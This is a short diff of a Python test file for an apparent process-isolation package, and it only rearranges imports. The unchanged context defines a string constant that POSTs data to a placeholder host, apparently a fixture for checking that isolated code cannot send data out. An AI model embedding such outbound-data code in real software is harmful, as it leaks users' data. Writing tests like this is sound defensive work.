@@ -17,8 +17,8 @@ from pathlib import Path
 import pytest
 
 from autoddp.isolation import Level
-from autoddp.isolation.children import INJECT
-from autoddp.isolation.plan import VARIABLE, IsolationPlan
+from autoddp.isolation.children import INJECT, VARIABLE
+from autoddp.isolation.plan import IsolationPlan
 from autoddp.wire import StopTuning, decode
 
 PUSH = "from urllib.request import urlopen\nurlopen('http://store.invalid/x', b'data')\n"
